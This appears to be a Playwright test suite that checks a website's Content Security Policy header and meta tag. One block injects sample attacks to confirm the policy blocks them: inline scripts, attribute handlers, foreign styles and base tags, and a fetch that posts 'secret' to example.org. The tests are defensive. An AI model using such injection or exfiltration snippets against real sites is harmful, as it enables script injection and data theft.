import { test as unguarded } from '@playwright/test'
import { open } from './browsing.ts'
import { routes } from './site.ts'
import { expect, test } from './test.ts'

test.describe('the policy', { tag: '@desktop' }, () => {
  test('is in the head of every page and in every answer', async ({ request }) => {
    for (const path of [...routes, '/gibt-es-nicht']) {
      const response = await request.get(path)
      const [, policy = ''] =
        /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await response.text()) ?? []
      expect.soft(policy, path).toContain("default-src 'none'")
      expect.soft(policy, path).not.toContain('unsafe')
      expect.soft(response.headers()['content-security-policy'], path).toContain("frame-ancestors 'none'")
    }
  })

  test('has nothing against printing', async ({ page }) => {
    await open(page, '/gitterboxen')
    expect((await page.pdf()).length).toBeGreaterThan(10_000)
  })

  test('lets new styles in as React makes them, and the sheet survives', async ({ page }) => {
    await open(page, '/')
    await page.locator('footer').getByRole('link', { name: 'Kontakt' }).first().click()
    await expect(page.locator('form')).toBeVisible()
    const button = page.locator('form button[type=submit]')
    expect(await button.evaluate((element) => getComputedStyle(element).cursor)).toBe('pointer')
  })
})

// Here the policy has to refuse something, so the guard that forbids that stays away.
unguarded.describe('the policy refuses', { tag: '@desktop' }, () => {
  const attacks = {
    'a foreign style': () => {
      const style = document.head.appendChild(document.createElement('style'))
      style.textContent = 'h1 { color: rgb(1, 2, 3) }'
    },
    'a script in the page': () => {
      const script = document.head.appendChild(document.createElement('script'))
      script.textContent = 'document.title = "broken in"'
    },
    'a handler in an attribute': () => {
      document.body.setAttribute('onclick', 'document.title = "broken in"')
      document.body.click()
    },
    'a picture of another site': () => {
      document.body.appendChild(document.createElement('img')).src = 'https://example.org/a.png'
    },
    'data for another site': () => {
      fetch('https://example.org/', { method: 'POST', body: 'secret' }).catch(() => {})
    },
    'another base': () => {
      document.head.appendChild(document.createElement('base')).href = 'https://example.org/'
    },
  }
  for (const [name, attack] of Object.entries(attacks)) {
    unguarded(name, async ({ page }) => {
      await open(page, '/kontakt')
      const title = await page.title()
      const refused = page.waitForEvent('console', (message) =>
        message.text().includes('Content Security Policy'),
      )
      await page.evaluate(attack)
      await refused
      expect(await page.title()).toBe(title)
    })
  }

  unguarded('to be shown inside another page', async ({ page, baseURL }) => {
    await page.setContent(`<iframe src="${baseURL}/"></iframe>`)
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
  })
})
